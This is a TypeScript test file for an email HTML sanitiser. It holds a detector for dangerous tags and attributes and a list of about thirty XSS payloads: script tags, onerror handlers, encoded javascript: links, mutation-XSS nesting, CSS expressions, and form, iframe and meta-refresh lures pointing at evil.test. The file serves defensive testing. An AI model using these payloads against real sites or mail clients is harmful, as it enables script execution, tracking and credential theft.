import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { sanitise } from './sanitise.ts'

/** Read as a browser does not have to be: any tag or attribute that the cleaned text could still be taken for. */
function harmIn(html: string): string[] {
  const found = [...html.matchAll(/<\/?([a-z][^\s/>]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/gi)].flatMap(
    ([, tag = '', rest = '']) => {
      const names = [...rest.matchAll(/([^\s"'=<>/]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]*))?/g)]
      return [
        ...(/^(script|style|form|input|button|textarea|select|iframe|frame|object|embed|svg|math|meta|base|link|noscript|template|title|video|audio|source)$/i.test(
          tag,
        )
          ? [`<${tag}>`]
          : []),
        ...names.flatMap(([, name = '', value = '']) => {
          const bare = value.replace(/^["']|["']$/g, '').replace(/&amp;/g, '&')
          if (/^on/i.test(name)) return [name]
          if (/^(href|src|srcset|action|formaction|background|poster|xlink:href|data)$/i.test(name))
            return /^(https?:\/\/|mailto:|cid:|\{\{)/i.test(bare.trim()) &&
              !(tag === 'img' && !/^cid:/i.test(bare.trim()))
              ? []
              : [`${name}=${bare}`]
          if (
            name.toLowerCase() === 'style' &&
            /(?:url|expression) *\(|(?:position|behaviou?r) *:|@import|\\/i.test(bare)
          )
            return [`style=${bare}`]
          return []
        }),
      ]
    },
  )
  return [...found, ...(/<[!?]/.test(html) ? ['comment'] : [])]
}

const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<form action="https://evil.test"><input name=password><button>Go</button></form>',
  '<iframe src="https://evil.test"></iframe>',
  '<img src="https://evil.test/t.gif">',
  '<img src=x onerror=alert(1)>',
  '<img srcset="https://evil.test/t.gif 1x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.test">x</a>',
  '<style>*{background:url(https://evil.test)}</style>',
  '<p style="background:url(https://evil.test);position:fixed;top:0">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="color:red;background-image:\\75rl(https://evil.test)">x</p>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<base href="https://evil.test">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<object data="https://evil.test"></object>',
  '<body background="https://evil.test/t.gif" onload=alert(1)>',
  '<table background="https://evil.test/t.gif"><td background="x">',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<p/onclick=alert(1)>x',
  '<a href="https://x.test" href="javascript:alert(1)" ONCLICK=alert(1)>x</a>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><p title="</xmp><img src onerror=alert(1)>">',
  '<plaintext><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
]

describe('the HTML of a mail', () => {
  it.each(hostile)('%s loses its harm', (html) => {
    const clean = sanitise(html)
    expect(harmIn(clean.html)).toEqual([])
    expect(sanitise(clean.html)).toEqual({ html: clean.html, dropped: [] })
  })

  it('and so does any mixture of such, cut anywhere', () => {
    const pieces = fc.array(
      fc.oneof(
        fc.constantFrom(...hostile).chain((html) => fc.nat(html.length).map((end) => html.slice(0, end))),
        fc.constantFrom(...hostile).chain((html) => fc.nat(html.length).map((from) => html.slice(from))),
        fc.constantFrom(
          '<p>',
          '</p>',
          '"',
          "'",
          '<',
          '>',
          '&',
          '<b title="',
          '\u0000',
          '<!--',
          '-->',
          '<![CDATA[',
          ']]>',
        ),
        fc.string(),
      ),
      { maxLength: 8 },
    )
    fc.assert(
      fc.property(pieces, (parts) => {
        const clean = sanitise(parts.join(''))
        expect(harmIn(clean.html)).toEqual([])
        expect(sanitise(clean.html).dropped).toEqual([])
      }),
      { numRuns: 3000 },
    )
  })

  it('keeps what mails are made of', () => {
    const html =
      '<h1 style="color: #333; font-size: 20px">{{number}}</h1><table width="100%" role="presentation"><tr><td align="right">{{total}}</td></tr></table>' +
      '<p><a href="https://roast.test/pay?a=1&amp;b=2">Pay</a> <a href="mailto:hi@roast.test">Ask</a> <a href="{{url}}">Open</a></p><img src="cid:logo" alt="Logo" />'
    expect(sanitise(html)).toEqual({ html, dropped: [] })
  })

  it('says what it left out', () => {
    const html =
      '<p onclick="x()" style="position: fixed; color: red">Hi<script>x</script><a href="javascript:x">y</a></p>'
    const { dropped } = sanitise(html)
    expect(dropped.sort()).toEqual(['<script>', 'a href', 'p onclick', 'style position'])
  })
})
